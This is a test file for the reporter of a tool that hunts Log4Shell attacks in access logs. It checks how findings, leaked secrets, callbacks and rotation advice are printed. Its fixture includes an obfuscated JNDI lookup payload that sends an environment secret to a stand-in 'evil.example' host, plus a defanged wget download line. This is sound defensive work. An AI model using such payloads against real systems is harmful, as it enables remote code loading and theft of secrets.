import { expect, test } from 'vitest'
import { documentOf, huntHeader, sampleAttacks } from '../../../test/kit/generated-results.ts'
import { type AttackFinding, type Gap, instant } from '../../core/index.ts'
import { text } from '../reporters/text.ts'

const [sample] = sampleAttacks(1)
const attack: AttackFinding = {
  ...sample!,
  at: { source: '/var/log/access.log', line: 12, byteOffset: 700 },
  when: instant('2021-12-12T04:25:41Z'),
  from: '203.0.113.83',
  request: 'GET /login',
  field: 'user agent',
  format: 'combined',
  verdict: 'fires',
  severity: 'critical',
  because: 'a vulnerable Log4j that logs it looks it up',
  firesOn: ['B', 'C'],
  needsJdk: null,
  lookup: {
    raw: '$%7B${::-j}ndi:ldap://${env:SECRET}.evil.example/a%7D',
    meaning: 'jndi:ldap://${env:SECRET}.evil.example/a',
    scheme: 'ldap',
    host: '${env:SECRET}.evil.example',
    port: 389,
    path: 'a',
    domain: null,
    reads: ['env:SECRET'],
    times: 2,
  },
  traits: ['laundering'],
  leaks: [{ read: 'env:SECRET', into: 'ldap://${env:SECRET}.evil.example/a', secret: true }],
  carries: ['wget hxxp://evil[.]example/a'],
  outcome: 'attempt',
  scanner: null,
  cves: [{ id: 'CVE-2021-44228', status: 'under_investigation', because: 'the log does not say' }],
  evidence: [
    { kind: 'log', source: '/var/log/access.log', line: 12, byteOffset: 700, says: 'it is there', text: 'the line' },
    { kind: 'decoding', layers: ['percent'], text: '${…' },
  ],
  remedy: 'Scan what logged it.',
}

function linesOf(findings: readonly AttackFinding[], gaps: readonly Gap[] = []): readonly string[] {
  return documentOf(text, findings, gaps, { header: huntHeader, columns: 130 }).split('\n')
}

test('an attack is read at a glance: where, when, from whom, what it asks for, what leaks, what to do', () => {
  expect(linesOf([attack]).slice(1, 12)).toEqual([
    'ATTACK /var/log/access.log:12, critical',
    '    when       2021-12-12 04:25:41 UTC',
    '    from       203.0.113.83',
    '    in         user agent of GET /login (combined)',
    '    asks for   jndi:ldap://${env:SECRET}.evil.example/a',
    '    fires on   Log4j 2.8 to 2.12.1; 2.13.0 to 2.14.1, 2 times for one message',
    '    leaks      env:SECRET (a secret), in ldap://${env:SECRET}.evil.example/a',
    '    carries    wget hxxp://evil[.]example/a',
    '    note       laundering: a Log4j that evaluates it writes a harmless text in its place: later logs may not show it',
    '    written    $%7B${::-j}ndi:ldap://${env:SECRET}.evil.example/a%7D (percent undone)',
    '    do         Scan what logged it.',
  ])
})

test('where the JVM asks nobody for what is looked up, that is said', () => {
  const because = 'a vulnerable Log4j that logs it looks up ldap://a:b@c/d; there a:b@c is no host and port'
  const lookup = { ...attack.lookup, scheme: null, host: null, port: null, path: null }

  expect(linesOf([{ ...attack, because, lookup }])).toContain(`    but        ${because}`)
  expect(linesOf([attack]).filter((line) => line.startsWith('    but'))).toEqual([])
})

test('what a scan says of whether it could fire here stands with it, and in the sums', () => {
  const because = 'log4j-core 2.14.1 in /srv/a.war evaluates it'
  const lines = linesOf([{ ...attack, cves: [{ id: 'CVE-2021-44228', status: 'affected', because }] }])

  expect(lines).toContain(`    here       YES, ${because} (CVE-2021-44228)`)
  expect(lines).toContain('  1 of 1 could have fired on what the scan found')
})

test('a spray is one block, a few lines, and a number; its names of one use stand together', () => {
  const spray = Array.from(
    { length: 10_000 },
    (_, i): AttackFinding => ({
      ...attack,
      at: { ...attack.at, line: i + 1 },
      from: `198.51.100.${i % 200}`,
      leaks: [],
      lookup: {
        ...attack.lookup,
        meaning: `jndi:ldap://a1b2c3d4${i}.evil.example/a`,
        host: `a1b2c3d4${i}.evil.example`,
      },
    }),
  )
  const lines = linesOf(spray)

  expect(lines.length).toBeLessThan(50)
  expect(lines.filter((line) => line.startsWith('ATTACK '))).toHaveLength(1)
  expect(lines.filter((line) => line.startsWith('    also '))).toHaveLength(5)
  expect(lines.join('\n')).toMatch(/ 10,000 × \*\.evil\.example:389 +2021-12-12 04:25:41 UTC\n/)
  expect(lines.join('\n')).toContain('and 188 more')
  expect(lines.join('\n')).toContain('9,994 more attacks of the same kinds are not shown')
  expect(lines).toContain('10,000 attacks in 1 log')
})

test('a trace of an evaluated lookup is shown however many attacks came before, with the record', () => {
  const others = Array.from(
    { length: 500 },
    (_, i): AttackFinding => ({ ...attack, lookup: { ...attack.lookup, host: `h${i}.example`, path: `${i}` } }),
  )
  const trace: AttackFinding = { ...attack, verdict: 'evidence', because: 'Log4j says so', leaks: [] }
  const lines = linesOf([...others, trace])

  expect(lines).toContain('EVALUATED /var/log/access.log:12, critical')
  expect(lines).toContain('    record     the line')
  expect(lines).toContain('  1 record of lookups that were evaluated: treat those hosts as broken into')
})

test('secrets that would leak are listed once, to be rotated', () => {
  const lines = linesOf([attack, attack])

  expect(lines.slice(lines.indexOf('Rotate, wherever it could have fired')).slice(0, 2)).toEqual([
    'Rotate, wherever it could have fired',
    '        2 × env:SECRET  2021-12-12 04:25:41 UTC',
  ])
})

test('nothing found and something unread is told as that', () => {
  const lines = linesOf([], [{ at: '/var/log/b.gz', because: 'truncated', detail: '' }])

  expect(lines).toContain(
    'No attack was found in what was read. 1 place could not be examined: nothing is known of it.',
  )
})

test('what came of an attack stands at its head, with the records that say so, and in the sums', () => {
  const called: AttackFinding = {
    ...attack,
    outcome: 'callback-seen',
    evidence: [
      ...attack.evidence,
      {
        kind: 'witness',
        source: 'named.log',
        line: 7,
        byteOffset: 70,
        format: 'bind-queries',
        when: instant('2021-12-12T04:25:42Z'),
        says: '10.0.0.5 asked for root.evil.example, 1 s after it',
        text: 'the record',
      },
    ],
  }

  const lines = linesOf([called, attack])

  expect(lines).toContain('ATTACK, CALLBACK SEEN /var/log/access.log:12, critical')
  expect(lines).toContain('    seen       10.0.0.5 asked for root.evil.example, 1 s after it (named.log:7)')
  expect(lines).toContain('  a callback was seen of 1')
  expect(lines.join('\n')).toMatch(/Rotate now[^\n]*\n +1 × env:SECRET[^]*Rotate, wherever[^\n]*\n +1 × env:SECRET/)
})
